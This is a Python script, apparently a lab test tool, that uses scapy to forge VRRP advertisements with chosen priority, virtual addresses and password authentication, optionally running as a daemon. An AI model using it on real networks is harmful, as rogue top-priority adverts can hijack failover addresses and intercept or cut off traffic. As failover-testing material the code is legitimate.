#!/usr/bin/python3
"""kalab-rogue: send forged VRRP adverts (scapy) from a lab container onto the lab network.

    kalab-rogue --iface eth0 --vrid 51 --priority 255 --addresses 10.213.4.200 \
                --auth-type pass --auth-pass secret --interval 0.2 --daemon --pidfile P

Packet shape: IPv4 to 224.0.0.18 (or --dst for unicast), TTL 255, protocol 112 (RFC 3768 §5.2,
RFC 5798 §5.1). VRRPv2 carries the advert interval in seconds and optional simple-password
authentication (auth type 1, 8 bytes, zero padded: the form keepalived's PASS uses); VRRPv3
carries it in centiseconds and has no authentication. --count 0 sends until SIGTERM.
--daemon forks and exits 0 once the first advert has gone out.
"""
import argparse
import os
import select
import signal
import sys
import time


def build(args):
    from scapy.layers.inet import IP
    from scapy.layers.vrrp import VRRP, VRRPv3

    addrs = [a for a in args.addresses.split(",") if a]
    from scapy.arch import get_if_addr

    ip = IP(src=args.src or get_if_addr(args.iface), dst=args.dst, ttl=255, proto=112)
    if args.version == 3:
        return ip / VRRPv3(vrid=args.vrid, priority=args.priority, ipcount=len(addrs),
                           adv=int(round(args.advert_int * 100)), addrlist=addrs)
    pw = (args.auth_pass or "").encode()[:8].ljust(8, b"\0")
    authtype = {"none": 0, "pass": 1, "ah": 2}[args.auth_type]
    return ip / VRRP(vrid=args.vrid, priority=args.priority, ipcount=len(addrs), authtype=authtype,
                     adv=int(round(args.advert_int)), addrlist=addrs,
                     auth1=int.from_bytes(pw[:4], "big"), auth2=int.from_bytes(pw[4:], "big"))


def run(args, ready_fd=None):
    from scapy.config import conf

    stop = []
    signal.signal(signal.SIGTERM, lambda s, f: stop.append(s))
    import ipaddress

    from scapy.layers.l2 import Ether

    pkt = build(args)
    dst = ipaddress.IPv4Address(args.dst)
    if dst.is_multicast:    # layer 2 to the group's MAC (RFC 1112 §6.4): needs no route in the container
        mac = "01:00:5e:%02x:%02x:%02x" % (dst.packed[1] & 0x7F, dst.packed[2], dst.packed[3])
        from scapy.arch import get_if_hwaddr

        pkt = Ether(src=get_if_hwaddr(args.iface), dst=mac) / pkt
        sock = conf.L2socket(iface=args.iface)
    else:
        sock = conf.L3socket(iface=args.iface)
    if args.pidfile:
        with open(args.pidfile, "w") as f:
            f.write(f"{os.getpid()}\n")
    sent = 0
    try:
        while not stop and (args.count == 0 or sent < args.count):
            sock.send(pkt)
            sent += 1
            if ready_fd is not None:
                os.write(ready_fd, b"ok")
                os.close(ready_fd)
                ready_fd = None
            if args.count and sent >= args.count:
                break
            time.sleep(args.interval)       # the sender's own pacing, not a wait in a test
    finally:
        sock.close()
        if args.pidfile:
            try:
                os.unlink(args.pidfile)
            except OSError:
                pass
    return sent


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--iface", required=True)
    p.add_argument("--src", default=None, help="source address (default: the interface's)")
    p.add_argument("--dst", default="224.0.0.18")
    p.add_argument("--vrid", type=int, required=True)
    p.add_argument("--priority", type=int, required=True)
    p.add_argument("--version", type=int, choices=(2, 3), default=2)
    p.add_argument("--advert-int", type=float, default=1.0, help="advert interval in the packet, seconds")
    p.add_argument("--addresses", default="", help="comma-separated VIPs carried in the advert")
    p.add_argument("--auth-type", choices=("none", "pass", "ah"), default="none")
    p.add_argument("--auth-pass", default="")
    p.add_argument("--interval", type=float, default=1.0, help="seconds between sends")
    p.add_argument("--count", type=int, default=0)
    p.add_argument("--pidfile")
    p.add_argument("--daemon", action="store_true")
    args = p.parse_args()
    if not args.daemon:
        print(f"sent {run(args)} advert(s)")
        return 0
    rfd, wfd = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(rfd)
        os.setsid()
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        try:
            run(args, wfd)
        finally:
            os._exit(0)
    os.close(wfd)
    r, _, _ = select.select([rfd], [], [], 10.0)
    if (os.read(rfd, 16) if r else b"") != b"ok":
        print("kalab-rogue: no advert could be sent", file=sys.stderr)
        return 1
    print(pid)
    return 0


if __name__ == "__main__":
    sys.exit(main())
